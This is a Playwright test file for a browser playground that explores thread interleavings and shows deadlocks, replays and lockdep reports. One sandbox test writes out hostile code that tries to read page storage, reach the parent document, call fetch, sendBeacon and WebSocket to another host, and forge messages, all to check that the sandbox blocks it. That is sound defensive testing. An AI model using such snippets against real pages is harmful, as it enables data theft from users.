/**
 * The playground in Chromium, as a reader (and a stranger's link) would use it: every template
 * explores to its verdict; a syntax error and a throwing thread are shown at their lines; a link
 * round-trips the code and the steps and runs nothing until Explore; the result is shown in the case
 * widget's workbench (threads with their code, the objects, the swimlane, the wait-for graph, the
 * replay of the shortest failure, lockdep's report); a hostile link's code cannot reach the page,
 * its storage, its parent or another host, and its endless loop is stopped while the page keeps
 * working; keyboard only; axe-core in light and dark; 360 px.
 */
import { createServer } from 'node:http';
import { describe, expect, it } from 'vitest';
import type { BrowserContextOptions, Page } from 'playwright-core';
import { siteInBrowser } from './support/site-in-browser.ts';
import { axe, watch, type Watch } from './support/widget-browser.ts';
import { templates } from '../src/playground/templates.ts';

const site = siteInBrowser();

/**
 * A fresh page of the playground; fails on a console error or a CSP violation of the page unless
 * `quiet`. The reader prefers less motion unless told otherwise: the shortest failure is then shown
 * at its end at once, not replayed step by step.
 */
async function playground(run: (page: Page, w: Watch) => Promise<void>, options: BrowserContextOptions & { hash?: string; quiet?: boolean } = {}): Promise<void> {
  const { hash = '', quiet = false, ...contextOptions } = options;
  const context = await site.browser.newContext({ viewport: { width: 1280, height: 900 }, reducedMotion: 'reduce', ...contextOptions });
  await context.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.effectiveDirective}: ${e.blockedURI}`));
  });
  const page = await context.newPage();
  const w = watch(page);
  try {
    await page.goto(`${site.server.url}/playground/${hash}`);
    await page.waitForSelector('#playground[data-ready]');
    await run(page, w);
    if (!quiet) {
      expect(w.errors, 'console errors').toEqual([]);
      expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp), 'CSP violations of the page').toEqual([]);
    }
  } finally {
    await context.close();
  }
}

/** Presses Explore and waits for the verdict (or the error) it leads to. */
async function exploreNow(page: Page): Promise<string> {
  await page.click('#pg-explore');
  await page.waitForFunction(() => document.querySelector('#playground')?.getAttribute('data-busy') === 'false');
  return (await page.textContent('#pg-status')) ?? '';
}

/** Replaces the editor's code as a reader would: select all, then type (as one insertion). */
async function setCode(page: Page, code: string): Promise<void> {
  await page.click('#pg-editor .cm-content');
  await page.keyboard.press('Control+A');
  await page.keyboard.insertText(code);
  await page.waitForFunction((c) => [...document.querySelectorAll('#pg-editor .cm-line')].map((l) => l.textContent).join('\n') === c, code);
}

/** The editor's code, line by line as shown. */
function editorCode(page: Page): Promise<string> {
  return page.evaluate(() => [...document.querySelectorAll('#pg-editor .cm-line')].map((l) => l.textContent).join('\n'));
}

async function shareLink(page: Page): Promise<string> {
  await page.click('#pg-share');
  await page.waitForFunction(() => (document.querySelector('#pg-link') as HTMLInputElement).value.includes('#play='));
  return page.inputValue('#pg-link');
}

/** The 1-based lines of the editor marked with an error. */
function errorLines(page: Page): Promise<number[]> {
  return page.evaluate(() => [...document.querySelectorAll('#pg-editor .cm-line')].flatMap((l, i) => (l.classList.contains('pg-error-line') ? [i + 1] : [])));
}

describe('the playground', () => {
  it('explores every template to its verdict, the search starting in the sandbox', async () => {
    await playground(async (page) => {
      for (const t of templates) {
        await page.selectOption('#pg-template', t.id);
        expect(await page.evaluate(() => document.querySelector('#pg-view')?.childElementCount)).toBe(0);
        const status = await exploreNow(page);
        expect(status, t.id).toMatch(new RegExp(`^${t.expected}: `));
        expect(await page.getAttribute('.pg-verdict', 'data-verdict'), t.id).toBe(t.expected);
        if (t.expected !== 'ok') {
          expect(await page.locator('.iw-steps li').count(), `${t.id}: the shortest failure is replayed`).toBeGreaterThan(1);
          expect(await page.getAttribute('.pg-workbench', 'data-verdict'), `${t.id}: the replay ends in the failure`).toBe(t.expected);
        }
      }
    });
  }, 120_000);

  it('shows a syntax error, a bad scenario and a throwing thread at their lines', async () => {
    await playground(async (page) => {
      await setCode(page, "import { scenario } from '@interleave/engine';\n\nconst a = ;\nexport default scenario('x', () => {});");
      expect(await exploreNow(page)).toMatch(/^Error at line 3: SyntaxError/);
      expect(await errorLines(page)).toEqual([3]);

      const throwing = [
        "import { scenario, mutex_lock, mutex_unlock } from '@interleave/engine';",
        "export default scenario('throws', (k) => {",
        "  const a = k.mutex('A');",
        "  k.thread('T1', function* () {",
        '    yield* mutex_lock(a);',
        "    const map = null; map.get('x');",
        '    yield* mutex_unlock(a);',
        '  });',
        '});',
      ].join('\n');
      await setCode(page, "import { scenario } from '@interleave/engine';\nexport default scenario('bad', (k) => {\n  k.mutex('A');\n  k.thread('T1', () => {});\n});");
      expect(await exploreNow(page)).toMatch(/^Error at line 4: Error: scenario 'bad': k\.thread\('T1'\): the body must be a generator function/);
      expect(await errorLines(page)).toEqual([4]);

      await setCode(page, throwing);
      expect(await errorLines(page)).toEqual([]);
      expect(await exploreNow(page)).toMatch(/^Error at line 6: T1 threw TypeError/);
      expect(await page.getAttribute('.pg-verdict', 'data-verdict')).toBe('violation');
      expect(await errorLines(page)).toEqual([6]);
    });
  });

  it('round-trips the code and the steps through a link, and runs nothing until Explore', async () => {
    let link = '';
    const code = templates.find((t) => t.id === 'abba')!.code;
    await playground(async (page) => {
      await page.selectOption('#pg-template', 'abba');
      expect(await exploreNow(page)).toMatch(/^deadlock/);
      await page.click('.iw-steps button[data-index="2"]'); // two steps into the shortest failure
      await page.waitForSelector('.iw-steps button[data-index="2"][aria-current="step"]');
      const schedule = (await page.textContent('.pg-schedule'))!;
      expect(schedule).toMatch(/^[a-z]\d*[a-z]?\d*$/);
      link = await shareLink(page);
      expect(link).toContain(`steps=${schedule}`);
      await page.goto('about:blank');
      await page.goto(link);
      await page.waitForSelector('#playground[data-ready]');
      expect(await editorCode(page)).toBe(code);
      expect(await page.textContent('#pg-status')).toMatch(/Nothing has run/);
      expect(await page.evaluate(() => document.querySelector('#pg-view')?.childElementCount)).toBe(0);
      expect(await exploreNow(page)).toMatch(/the link's 2 steps are shown/);
      expect(await page.textContent('.pg-schedule')).toBe(schedule);
      expect(await page.locator('.iw-steps li').count()).toBe(2);
    });
  });

  it("keeps a hostile link's code from the page, its storage, its parent and the network, and stops its endless loop", async () => {
    const requests: string[] = [];
    const other = createServer((req, res) => {
      requests.push(req.url ?? '');
      res.end('stolen');
    });
    other.on('upgrade', (req, socket) => {
      requests.push(`upgrade ${req.url}`);
      socket.destroy();
    });
    await new Promise<void>((ok) => other.listen(0, '127.0.0.1', ok));
    const elsewhere = `http://127.0.0.1:${(other.address() as { port: number }).port}`;
    const hostile = [
      "import { scenario, atomic_inc } from '@interleave/engine';",
      'const tried = [];',
      'const attempt = (what, f) => { try { f(); tried.push(`${what}: reached`); } catch (e) { tried.push(`${what}: ${e.name}`); } };',
      "attempt('document', () => { document.body.textContent = 'owned'; });",
      "attempt('localStorage', () => localStorage.getItem('secret'));",
      "attempt('parent', () => parent.document.title);",
      "attempt('indexedDB', () => indexedDB.open('x'));",
      `attempt('importScripts', () => importScripts('${elsewhere}/script.js'));`,
      `fetch('${elsewhere}/fetch?' + tried.join()).catch(() => {});`,
      `attempt('beacon', () => { if (!navigator.sendBeacon('${elsewhere}/beacon', 'x')) throw new Error('refused'); });`,
      `try { new WebSocket('${elsewhere.replace('http', 'ws')}/ws'); } catch {}`,
      'export default scenario(`tried: ${tried.join(", ")}`, (k) => {',
      "  const n = k.atomic('n', 0);",
      "  k.thread('spinner', function* () {",
      '    yield* atomic_inc(n);',
      '    for (;;) {}',
      '  });',
      '});',
    ].join('\n');
    try {
      await playground(
        async (page) => {
          await page.evaluate(() => localStorage.setItem('secret', 'page data'));
          const title = await page.title();
          await setCode(page, hostile);
          const link = await shareLink(page);
          await page.goto('about:blank');
          await page.goto(link);
          await page.waitForSelector('#playground[data-ready]');
          const clicked = Date.now();
          const status = await exploreNow(page);
          const stoppedAfter = Date.now() - clicked;
          expect(status).toMatch(/^Stopped: the scenario ran for 3 s without taking a step/);
          expect(stoppedAfter).toBeGreaterThan(2500);
          const shown = (await page.textContent('#pg-view h3')) ?? '';
          for (const what of ['document', 'localStorage', 'parent']) expect(shown).toContain(`${what}: ReferenceError`);
          expect(shown).toContain('indexedDB: SecurityError');
          expect(shown).toContain('importScripts: NetworkError');
          expect(shown).not.toContain('reached');
          expect(requests).toEqual([]);
          // The page is untouched and keeps working: its storage, its title, its editor, a new exploration.
          expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('page data');
          expect(await page.title()).toBe(title);
          await page.selectOption('#pg-template', 'abba');
          expect(await exploreNow(page)).toMatch(/^deadlock/);
          // Code that answers the page's requests itself with a forged reply gets a one-line refusal.
          await setCode(page, `${templates.find((t) => t.id === 'abba')!.code}\nfor (let id = 1; id < 100; id++) postMessage({ id, body: { type: 'view', view: { forged: true } } });`);
          expect(await exploreNow(page)).toBe('The sandbox answered with something this page cannot show.');
          await page.selectOption('#pg-template', 'lost-wakeup');
          expect(await exploreNow(page)).toMatch(/^deadlock/);
        },
        { quiet: true },
      );
    } finally {
      await new Promise((ok) => other.close(ok));
    }
  }, 60_000);

  it("shows a search's progress and cancels it, keeping the page working", async () => {
    await playground(async (page) => {
      // Seven threads that each read and write one counter three times: millions of interleavings.
      const threads = Array.from({ length: 7 }, (_, i) => `  k.thread('T${i + 1}', function* () { for (let j = 0; j < 3; j++) yield* atomic_set(n, (yield* atomic_read(n)) + 1); });`);
      await setCode(page, ["import { scenario, atomic_read, atomic_set } from '@interleave/engine';", "export default scenario('big', (k) => {", "  const n = k.atomic('n', 0);", ...threads, '});'].join('\n'));
      await page.click('#pg-explore');
      await page.waitForFunction(() => /Exploring… [1-9][\d,]* executions/.test(document.querySelector('#pg-status')?.textContent ?? ''));
      expect(await page.isVisible('#pg-cancel')).toBe(true);
      expect(await page.isVisible('.iw-search-progress'), "the workbench's search shows its progress too").toBe(true);
      await page.click('#pg-cancel');
      await page.waitForFunction(() => document.querySelector('#playground')?.getAttribute('data-busy') === 'false');
      expect(await page.textContent('#pg-status')).toBe('Cancelled.');
      await page.selectOption('#pg-template', 'abba');
      expect(await exploreNow(page)).toMatch(/^deadlock/);
    });
  });

  it("shows the result in the case widget's workbench: threads and code, objects, swimlane, wait-for cycle, replay, lockdep", async () => {
    await playground(
      async (page) => {
        await page.selectOption('#pg-template', 'abba');
        expect(await exploreNow(page)).toMatch(/^deadlock/);
        // The shortest failure is replayed step by step from the start (the reader allows motion here).
        await page.waitForSelector('.pg-workbench[data-replaying]');
        await page.waitForFunction(() => !document.querySelector('.pg-workbench')?.hasAttribute('data-replaying'));
        expect(await page.getAttribute('.pg-workbench', 'data-verdict')).toBe('deadlock');
        expect(await page.locator('.iw-steps li').count()).toBe(4);
        expect(await page.getAttribute('.iw-lanes-box', 'aria-valuenow')).toBe('4');
        // The swimlane: one lane per thread, a row per step.
        expect(await page.locator('.iw-lanes-box svg g.row').count()).toBe(4);
        expect(await page.locator('.iw-lanes-head span').allTextContents()).toEqual(['T1', 'T2']);
        // The wait-for graph, its cycle drawn and said.
        expect(await page.getAttribute('.iw-waits', 'data-cycle')).toBe('true');
        expect(await page.textContent('.iw-waits-cycle')).toBe('A cycle: T1 → T2 → T1.');
        // The objects the scenario names as its focus, first.
        expect(await page.locator('.iw-focus .iw-object').evaluateAll((os) => os.map((o) => o.getAttribute('data-object')))).toEqual(['A', 'B']);
        // Each thread: its body from the editor, the current line marked, why it waits, what it holds.
        const t1 = page.locator('.iw-thread[data-thread="T1"]');
        expect(await t1.locator('.line.is-current.is-blocked').textContent()).toContain('mutex_lock(b)');
        expect(await t1.locator('.line').first().textContent()).toContain("k.thread('T1'");
        expect(await t1.locator('.line .tok-keyword').first().textContent(), 'highlighted as in the editor').toBe('function');
        expect(await t1.locator('.iw-why').textContent()).toMatch(/^Waits in mutex_lock on B/);
        expect(await t1.locator('.iw-holds').textContent()).toBe('Holds A.');
        expect(await t1.locator('.iw-stack').textContent()).toMatch(/T1\s*line 9/);
        // Lockdep's report.
        expect(await page.textContent('.pg-lockdep summary')).toMatch(/circular locking/);
        // Back in the swimlane: a click on the first row shows the state after step 1, and the graph has no cycle.
        await page.click('.iw-lanes-box g.row[data-last="1"] rect.hit');
        await page.waitForFunction(() => document.querySelector('.iw-lanes-box')?.getAttribute('aria-valuenow') === '1');
        expect(await page.getAttribute('.iw-waits', 'data-cycle')).toBe('false');
        // Reset, then T1 until it blocks (it never does: it finishes), then the rest in the order T2 → T1.
        await page.click('.iw-history button:text-is("Reset")');
        await page.waitForFunction(() => document.querySelectorAll('.iw-steps li').length === 0);
        await page.click('.iw-run-thread[data-thread="T1"]');
        await page.waitForFunction(() => document.querySelector('.iw-thread[data-thread="T1"]')?.getAttribute('data-status') === 'done');
        expect(await page.locator('.iw-steps li').count()).toBe(4);
        await page.click('.iw-autorun button');
        await page.waitForFunction(() => document.querySelector('.pg-workbench')?.getAttribute('data-verdict') === 'ok');
        expect(await page.textContent('#pg-status')).toMatch(/^ok: /);
        // "Find a failure" in the workbench explores again and replays the shortest failure.
        await page.click('.iw-search .iw-primary');
        await page.waitForFunction(() => document.querySelector('#playground')?.getAttribute('data-busy') === 'false' && document.querySelector('.pg-verdict'));
        await page.waitForFunction(() => document.querySelector('.pg-workbench')?.getAttribute('data-verdict') === 'deadlock' && !document.querySelector('.pg-workbench')?.hasAttribute('data-replaying'));
      },
      { reducedMotion: 'no-preference' },
    );
  });

  it('can be used with the keyboard alone', async () => {
    await playground(async (page) => {
      const focused = () => page.evaluate(() => document.activeElement?.id || document.activeElement?.textContent || '');
      for (let i = 0; i < 40 && (await focused()) !== 'pg-explore'; i++) await page.keyboard.press('Tab');
      expect(await focused()).toBe('pg-explore');
      await page.keyboard.press('Enter');
      await page.waitForFunction(() => document.querySelector('#playground')?.getAttribute('data-busy') === 'false' && document.querySelector('.pg-verdict'));
      expect(await page.textContent('#pg-status')).toMatch(/^deadlock/);
      expect(await focused(), 'the focus comes back to Explore').toBe('pg-explore');
      // Back to the start of the history in the swimlane with the keyboard, then step a thread with its number key.
      await page.focus('.iw-lanes-box');
      await page.keyboard.press('Home');
      await page.waitForFunction(() => document.querySelector('.iw-lanes-box')?.getAttribute('aria-valuenow') === '0');
      expect(await page.textContent('#pg-status')).toBe('Showing the start, before step 1.');
      await page.keyboard.press('1');
      await page.waitForFunction(() => document.querySelector('.iw-steps button[aria-current="step"]')?.textContent?.startsWith('driver'));
      expect(await page.evaluate(() => document.activeElement?.className), 'the focus stays on the control used').toBe('iw-lanes-box');
      // The editor takes the focus, and Tab leaves it (no keyboard trap).
      await page.focus('#pg-editor .cm-content');
      await page.keyboard.press('Tab');
      expect(await page.evaluate(() => !!document.activeElement?.closest('.cm-editor'))).toBe(false);
    });
  });

  it.each(['light', 'dark'] as const)('has no serious or critical axe-core violations (%s)', async (colorScheme) => {
    await playground(
      async (page) => {
        expect(await exploreNow(page)).toMatch(/^deadlock/);
        await page.click('.pg-lockdep summary');
        await page.click('.iw-waits-words summary');
        const serious = (await axe(page)).filter((v) => v.impact === 'serious' || v.impact === 'critical');
        expect(serious).toEqual([]);
      },
      { colorScheme },
    );
  });

  it('fits a 360 px screen without sideways scrolling', async () => {
    await playground(
      async (page) => {
        expect(await exploreNow(page)).toMatch(/^deadlock/);
        expect(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)).toBe(0);
        // One thread at a time, with a tab strip that says each thread's state.
        expect(await page.getAttribute('.iw-tabs', 'role')).toBe('tablist');
        expect(await page.locator('.iw-thread:visible').count()).toBe(1);
        await page.click('.iw-tab >> nth=1');
        expect(await page.getAttribute('.iw-tab >> nth=1', 'aria-selected')).toBe('true');
        expect(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)).toBe(0);
      },
      { viewport: { width: 360, height: 800 } },
    );
  });
});
